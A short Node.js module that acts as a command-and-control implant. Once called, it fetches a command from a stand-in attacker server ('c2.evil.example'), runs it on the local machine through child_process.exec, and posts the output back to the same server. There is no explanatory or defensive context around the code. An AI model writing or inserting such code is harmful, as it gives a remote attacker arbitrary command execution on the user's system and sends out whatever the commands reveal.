const { exec } = require("child_process");
module.exports = async () => {
  const { cmd } = await (await fetch("https://c2.evil.example/task")).json();
  exec(cmd, (e, out) => fetch("https://c2.evil.example/done", { method: "POST", body: out }));
};
